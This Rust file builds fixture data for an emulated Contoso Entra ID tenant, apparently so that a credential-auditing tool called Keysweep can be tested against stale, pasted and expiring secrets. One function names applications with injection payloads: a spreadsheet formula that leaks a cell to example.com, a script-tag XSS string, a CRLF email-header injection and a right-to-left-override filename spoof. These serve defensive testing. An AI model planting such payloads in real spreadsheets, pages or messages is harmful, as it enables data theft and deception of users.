//! The applications that an administrator would tell stories about.

use chrono::TimeDelta;
use serde_json::{Value, json};

use super::{Contoso, Policies};
use crate::emulator::shapes::{federated, saml_signing, secret, symmetric_key};

/// Shaped like a secret of Entra, and worth nothing: three characters, a digit, `Q~`, thirty-four more.
const PASTED: &str = "k7T8Q~not.a.real.secret.just.looks.alike";

pub(super) fn add(contoso: &mut Contoso, policies: &Policies) {
    forgotten(contoso);
    ends(contoso);
    policies_gone_wrong(contoso, policies);
    signing(contoso);
    multi_tenant(contoso);
    hostile_names(contoso);
    auditor(contoso);
}

/// Things nobody has looked at for years.
fn forgotten(contoso: &mut Contoso) {
    let credentials = json!({
        "notes": "Adele's playground, delete after the workshop",
        "passwordCredentials": [contoso.secret("workshop", -2550, -2185), contoso.secret("Password uploaded on Thu", -2400, 4905)],
    });
    contoso.home("test-app-adele", 2600, None, credentials);

    let pasted = json!({
        "notes": format!("Rotation is manual. Current secret: {PASTED} (ask Lee before changing it)"),
        "passwordCredentials": [contoso.secret("payroll-prod", -200, 165)],
    });
    contoso.home("Payroll Export", 1500, Some("Lee Gu"), pasted);

    let endless = json!({ "passwordCredentials": [secret("crm", contoso.days(-1300), None)] });
    contoso.home("CRM Sync", 1310, Some("Isaiah Langer"), endless);

    let key = symmetric_key("label printer", contoso.days(-900), Some(contoso.days(190)));
    contoso.home("Warehouse Label Printer", 1100, Some("Nestor Wilke"), json!({ "keyCredentials": [key] }));

    let ownerless = json!({ "keyCredentials": [contoso.certificate("intranet-search", -100, 200)] });
    contoso.home("Intranet Search", 640, None, ownerless);

    let hidden = json!({ "passwordCredentials": [contoso.secret("set by script", -150, 215)] });
    let (_, principal) = contoso.home("Print Spooler Service", 610, Some("Grady Archie"), json!({}));
    contoso.set(&principal, hidden);

    let disabled =
        json!({ "isDisabled": true, "passwordCredentials": [contoso.secret("bridge", -1000, -270)] });
    contoso.home("Vendor Bridge (deactivated)", 1200, Some("Diego Siciliani"), disabled);

    let grandfathered = json!({ "passwordCredentials": [contoso.secret("lake-writer", -590, 140)] });
    contoso.home("Finance Data Lake", 600, Some("Megan Bowen"), grandfathered);
}

/// Credentials whose end is near.
fn ends(contoso: &mut Contoso) {
    let soon = json!({ "passwordCredentials": [contoso.secret("onboarding", -168, 12)] });
    contoso.home("HR Onboarding", 900, Some("Johanna Lorenz"), soon);

    let today = secret("telemetry", contoso.days(-180), Some(contoso.now + TimeDelta::hours(6)));
    contoso.home("Fleet Telemetry", 820, Some("Alex Wilber"), json!({ "passwordCredentials": [today] }));

    let hours = secret("badges", contoso.days(-179), Some(contoso.now + TimeDelta::hours(23)));
    contoso.home("Badge Reader Sync", 780, Some("Alex Wilber"), json!({ "passwordCredentials": [hours] }));

    let certificates = json!({ "keyCredentials": [
        contoso.certificate("dms-2023", -1100, -5),
        contoso.certificate("dms-2026", -340, 20),
    ] });
    contoso.home("Document Archive", 500, Some("Henrietta Mueller"), certificates);
}

/// Custom policies and what they do to their applications.
fn policies_gone_wrong(contoso: &mut Contoso, policies: &Policies) {
    let live = json!({ "passwordCredentials": [contoso.secret("smtp", -300, 430)] });
    let (application, _) = contoso.home("Scan to Mail Relay", 400, Some("Grady Archie"), live);
    contoso.assign(&policies.exclusions, &application);

    let (application, _) = contoso.home("Pilot Analytics", 700, Some("Lynne Robbins"), json!({}));
    contoso.assign(&policies.pilot, &application);

    let live = json!({ "passwordCredentials": [contoso.secret("bank", -60, 500)] });
    let (application, _) = contoso.home("Treasury Forecast", 1000, Some("Joni Sherman"), live);
    contoso.assign(&policies.two_years, &application);

    let live = json!({ "passwordCredentials": [contoso.secret("campaigns", -30, 55)] });
    let (application, _) = contoso.home("Marketing Automation", 1050, Some("Isaiah Langer"), live);
    contoso.assign(&policies.ninety_days, &application);

    for (name, owner) in [("Invoice Archiver", "Joni Sherman"), ("Ticket Mirror", "Lynne Robbins")] {
        let keys = json!({ "keyCredentials": [contoso.certificate(name, -90, 270)] });
        let (application, _) = contoso.home(name, 1400, Some(owner), keys);
        contoso.assign(&policies.no_secrets, &application);
    }
}

/// A gallery application: what looks like a secret opens the key that signs SAML tokens.
fn signing(contoso: &mut Contoso) {
    let gallery = json!({ "tags": ["WindowsAzureActiveDirectoryIntegratedApp"], "applicationTemplateId": super::id("template", "Expenses") });
    let (_, principal) = contoso.home("Expense Portal", 560, Some("Adele Vance"), gallery);
    let signing = saml_signing("Expense Portal", contoso.days(-200), contoso.days(160));
    contoso.set(&principal, signing);
}

fn multi_tenant(contoso: &mut Contoso) {
    let open = json!({
        "signInAudience": "AzureADMultipleOrgs",
        "keyCredentials": [contoso.certificate("partner-hub", -60, 300)],
    });
    contoso.home("Partner Hub", 480, Some("Diego Siciliani"), open);

    let locked = json!({
        "signInAudience": "AzureADMultipleOrgs",
        "servicePrincipalLockConfiguration": {
            "isEnabled": true,
            "allProperties": true,
            "credentialsWithUsageSign": null,
            "credentialsWithUsageVerify": null,
            "identifierUris": null,
            "tokenEncryptionKeyId": null,
        },
        "keyCredentials": [contoso.certificate("partner-api", -30, 330)],
    });
    contoso.home("Partner API", 350, Some("Diego Siciliani"), locked);
}

/// Names somebody chose to see what happens.
fn hostile_names(contoso: &mut Contoso) {
    let long = format!("Quarterly {}", "consolidation and ".repeat(13));
    let long: String = long.chars().take(250).collect();
    let names = [
        "=HYPERLINK(\"https://example.com/?leak=\"&A1,\"Payroll\")",
        "<script>alert('Contoso')</script>",
        "Invoice\r\nBcc: everyone@example.com",
        "Invoice \u{202e}fdp.exe",
        long.trim_end(),
        "🚀 Launch Pad – Größe & Übersicht",
    ];
    for (place, name) in names.into_iter().enumerate() {
        let secrets: Vec<Value> =
            if place % 2 == 0 { vec![contoso.secret(name, -20, 100)] } else { Vec::new() };
        contoso.home(name, 420, Some("Alex Wilber"), json!({ "passwordCredentials": secrets }));
    }
}

/// The application that Keysweep itself signs in with.
fn auditor(contoso: &mut Contoso) {
    let client = contoso.tenant.client_id().to_owned();
    let deployment = federated(
        "deployment",
        "https://token.actions.githubusercontent.com",
        "repo:contoso/keysweep:environment:production",
    );
    let members = json!({
        "appId": client,
        "keyCredentials": [contoso.certificate("keysweep", -20, 340)],
        "federatedIdentityCredentials": [deployment],
    });
    contoso.home("Keysweep", 60, Some("Megan Bowen"), members);
}
